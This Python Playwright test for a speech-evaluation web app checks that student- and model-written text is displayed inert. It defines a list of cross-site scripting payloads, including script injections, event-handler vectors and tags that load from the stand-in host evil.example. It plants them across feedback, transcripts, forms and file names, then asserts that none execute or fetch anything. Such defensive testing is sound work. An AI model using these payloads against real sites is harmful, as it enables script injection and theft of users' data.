"""S33: what students and models can write is shown as it was written. Nothing of it runs, nothing of it is fetched."""

from __future__ import annotations

from itertools import product
from typing import Any

import pytest
from playwright.sync_api import expect

from evaluations.models import Form, Submission, Transcript
from tests.browser.conftest import Visit, elsewhere
from tests.browser.pages import film
from tests.browser.test_student import clip, until
from tests.conftest import Cast
from tests.evaluations.material import finish, hand_in, item_row, write_results

pytestmark = [pytest.mark.slow, pytest.mark.django_db(transaction=True)]

LEAVE = ("", "\"'>", "</script></style></title></textarea>--><!--->", "{{ 7*7 }}{% x %}${alert(1)}`")
DO = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/s.js></script>",
    "<script type=module>import '//evil.example/m.js'</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/i.png>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video src=//evil.example/v onerror=alert(1)></video>",
    "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>",
    "<link rel=stylesheet href=//evil.example/s.css>",
    "<style>@import '//evil.example/s.css'; * { background: url(//evil.example/b) }</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example/o></object><embed src=//evil.example/e>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<b hx-get=//evil.example hx-trigger=load hx-on::load=alert(1)>x</b>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)
FEEDBACK = "section[aria-labelledby=feedback-heading]"
PAYLOADS = [leave + do for leave, do in product(LEAVE, DO)]


def write_everywhere(submission: Submission, **evaluation: Any) -> None:
    """Each payload wherever a speech or form model, a rating one, or the author of a rubric can put any."""
    scores = [
        {"key": f"k{number}", "title": each, "weight": 1, "score": 7.5, "items": items(number, each)}
        for number, each in enumerate(PAYLOADS)
    ]
    written = {"feedback": " ".join(PAYLOADS), "suggestions": PAYLOADS, "model": PAYLOADS[3], "scores": scores}
    write_results(submission, text=PAYLOADS[0], **{**written, **evaluation})
    Form.objects.filter(submission=submission).update(hobbies=PAYLOADS, experience=" ".join(PAYLOADS))
    Transcript.objects.filter(submission=submission).update(segments=[said(*each) for each in enumerate(PAYLOADS)])


def items(number: int, text: str) -> list[dict[str, Any]]:
    """One that was shown and one that was not; of some the quotes and the advice are in the feedback."""
    quote = {"sentence": number, "quote": text, "start": 1.0, "end": 2.0}
    points = 1 + number % 7
    return [
        item_row("yes", text, 1.0, points=points, sentences=[quote]),
        item_row("no", text, 0.0, points=points, sentences=[quote] * (number % 2)),
    ]


def said(second: int, text: str) -> dict[str, Any]:
    word = {"start": second, "end": second + 0.9, "text": text, "probability": 0.4}
    return {"start": second, "end": second + 0.9, "text": text, "no_speech_probability": 0.0, "words": [word]}


def shown(visit: Visit, where: str) -> int:
    """How many of the payloads can be read there."""
    text = visit.page.locator(where).text_content() or ""
    return sum(" ".join(each.split()) in " ".join(text.split()) for each in PAYLOADS)


def test_eighty_payloads_are_words_and_nothing_else(ada: Visit, cast: Cast, site: str) -> None:
    assert len(set(PAYLOADS)) == 80
    asked: list[str] = []
    ada.context.on("request", lambda request: asked.append(request.url))
    first = elsewhere(hand_in, cast.ada, cast.classroom, name="film.webm", content=clip().read_bytes())
    elsewhere(hand_in_all, cast, PAYLOADS[:40])  # these come by push
    expect(ada.page.locator("#submissions .row")).to_have_count(41)
    elsewhere(hand_in_all, cast, PAYLOADS[40:])
    ada.page.reload()
    assert shown(ada, "#submissions") == 80
    chosen = [film(each.replace("/", "|"), size=0) for each in PAYLOADS]
    ada.page.locator("#drop input").set_input_files(chosen)
    expect(ada.page.locator("#uploads .row")).to_have_count(80)

    ada.page.goto(f"/submissions/{first.pk}/")
    elsewhere(write_everywhere, first)
    elsewhere(finish, first)  # now all of it is put into the open page
    expect(ada.page.get_by_role("heading", name="Scores")).to_be_visible()
    for _ in range(2):
        assert shown(ada, ".criteria") == 80
        assert shown(ada, ".transcript") == 80
        expect(ada.page.locator(FEEDBACK)).to_contain_text("You give your listeners")
        until(ada.page, "document.getElementById('player').textTracks[0]?.cues?.length > 40")
        ada.page.reload()

    before = elsewhere(hand_in, cast.ada, cast.classroom, name="before.webm", content=clip().read_bytes()[:-1])
    elsewhere(write_everywhere, before, method="levels", rubric=None)  # a model wrote the feedback itself
    ada.page.goto(f"/submissions/{before.pk}/")
    assert shown(ada, FEEDBACK) == 80

    elsewhere(cast.classroom.teachers.add, cast.ada)
    ada.page.goto(f"/classes/{cast.classroom.pk}/")
    assert shown(ada, "#board") == 80
    assert [url for url in asked if not url.startswith((f"{site}/", "data:image/"))] == []


def hand_in_all(cast: Cast, names: list[str]) -> None:
    for name in names:
        hand_in(cast.ada, cast.classroom, name=name)
